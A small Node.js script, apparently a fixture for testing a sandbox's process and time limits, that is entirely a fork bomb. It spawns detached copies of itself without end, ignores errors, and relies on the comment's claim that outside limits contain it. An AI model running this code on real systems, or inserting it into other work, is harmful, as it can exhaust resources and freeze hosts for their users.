// every process starts two more, without end: the process limit and the time limit hold it, and
// none survives the run
const { spawn } = require('child_process');
function grow() {
  for (let i = 0; i < 2; i++) {
    try { spawn(process.execPath, [__filename], { stdio: 'ignore', detached: true }).on('error', () => {}); } catch (e) {}
  }
}
grow();
setInterval(grow, 10);
